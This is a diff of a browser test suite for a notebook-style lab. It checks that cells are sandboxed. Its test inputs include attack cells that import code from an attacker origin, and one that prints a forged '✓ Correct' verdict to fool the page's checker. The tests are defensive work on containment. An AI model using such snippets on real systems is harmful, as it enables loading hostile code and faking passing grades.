@@ -126,9 +126,9 @@ display(JSON.stringify({ origin: G.origin, results }));`;
     const text = await runAttack(page, 2, `// attack: import()\nconst stolen = await import(${JSON.stringify(attacker.origin + "/import.js")});\nstolen`);
     expect(text).toContain("cells cannot load code with import()");
     expect(text).toContain("(line 2)");
-    const meta = await runAttack(page, 3, `// attack: static import\nimport { stolen } from ${JSON.stringify(attacker.origin + "/static.js")};\nstolen`);
+    const meta = await runAttack(page, 2, `// attack: static import\nimport { stolen } from ${JSON.stringify(attacker.origin + "/static.js")};\nstolen`);
     expect(meta).toContain("cannot import");
-    await expectContained(page, 2, "// attack: import()");
+    await expectContained(page, 2, "// attack: static import");
     await page.close();
   });
 });
@@ -184,7 +184,8 @@ describe("break 2: outputs cannot run script or load anything", () => {
     const page = await openLab();
     const text = await runAttack(page, 6, `// attack: forged verdict\nconsole.log("✓ Correct: trust me");\nfunction momentumStep(w, step, g, lr, m) { return { w: w - lr * g, step: -lr * g }; }`);
     expect(text).toContain("trust me");
-    const first = cell(page, 6).locator(".nb-output > :first-child");
+    // The page's own note on which cells it ran first may come before; of the outputs, the verdict leads.
+    const first = cell(page, 6).locator(".nb-output > .nb-out").first();
     expect(await first.getAttribute("class")).toContain("nb-check-fail");
     expect(await cell(page, 6).locator(".nb-out-check").count()).toBe(1);
     await expectContained(page, 6, "// attack: forged verdict");
